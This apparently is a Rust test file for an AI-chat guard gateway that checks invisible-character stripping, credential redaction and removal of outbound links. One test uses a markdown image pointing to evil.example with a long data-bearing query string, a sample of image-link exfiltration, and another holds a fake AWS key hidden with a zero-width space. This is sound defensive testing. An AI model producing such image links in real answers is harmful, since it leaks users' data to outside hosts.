use serde_json::json;

use super::super::support::scripted;
use super::{ask, chat, guarded, said, seen};

const PROFILE: &str = "
id: own
version: 1
title: t
notices: [{ text: Answer in one sentence., at: start }]
rules:
  - { id: invisible, check: { any: {} }, points: [user, tool_result], action: transform, transform: [strip_invisible, normalise] }
  - { id: short, check: { any: {} }, points: [document], action: transform, transform: [{ truncate: { characters: 10 } }] }
  - { id: links, check: { any: {} }, points: [output], action: transform, transform: [{ strip_active: { hosts: [docs.example.com] } }] }
  - { id: keys, check: { sensitive: { categories: [credential] } }, points: [user, output], action: redact }
";

#[tokio::test(flavor = "multi_thread")]
async fn requests_reach_the_model_in_another_form() {
    let stub = scripted("rules: []").await;
    let (gate, _folder) = guarded(&stub, PROFILE, "").await;
    let body = json!({"model": "m", "x": [1.50], "messages": [{"role": "user", "content": "He\u{200b}llo w\u{ff4f}rld"}]});
    assert_eq!(ask(&gate, &body).await.status, 200);
    let expected = json!({"model": "m", "x": [1.50], "messages": [
        {"role": "system", "content": "Answer in one sentence."}, {"role": "user", "content": "Hello world"}]});
    assert_eq!(serde_json::from_str::<serde_json::Value>(&seen(&stub)).unwrap(), expected);
    let row = gate.rows.decision(1).await;
    assert_eq!((row["Action"].as_str(), row["Notices"].as_str()), (Some("transform"), Some("1 of 1")));
    assert!(row["Findings"].to_string().contains("strip_invisible"), "{row:?}");
    // What shows only without what hid it goes as well.
    let hidden = "aws_access_key_id = AKIAQ3EG\u{200b}RZ5XVHW4KLM2 ok";
    ask(&gate, &chat(hidden, false)).await;
    assert!(!seen(&stub).contains("RZ5X"), "{}", seen(&stub));
    let plain = chat("When do you open?", false);
    assert_eq!(ask(&gate, &plain).await.status, 200);
    assert!(seen(&stub).contains("When do you open?"));
}

#[tokio::test(flavor = "multi_thread")]
async fn answers_lead_nowhere_but_where_they_may() {
    let long = "x".repeat(600);
    let text = format!(
        "See ![chart](https://evil.example/c.png?d={long}) and [docs](https://docs.example.com/a?b=1) \u{2013} that is all."
    );
    let stub = scripted(&format!("rules:\n  - text: {}\n", json!(text))).await;
    let (gate, _folder) = guarded(&stub, PROFILE, "").await;
    for is_stream in [false, true] {
        let got = ask(&gate, &chat("Show me.", is_stream)).await;
        let expected =
            "See ![chart](link removed) and [docs](https://docs.example.com/a?b=1) \u{2013} that is all.";
        assert_eq!(said(&got), expected, "stream: {is_stream}");
        assert!(!got.text().contains("evil.example"), "{}", got.text());
    }
    let row = gate.rows.decision(2).await;
    let found = row["Findings"].as_array().unwrap();
    let links: Vec<_> = found.iter().filter(|hit| hit["what"] == "strip_active").collect();
    assert!(links.len() == 1 && links[0]["count"] == 1, "each is told once: {found:?}");
}
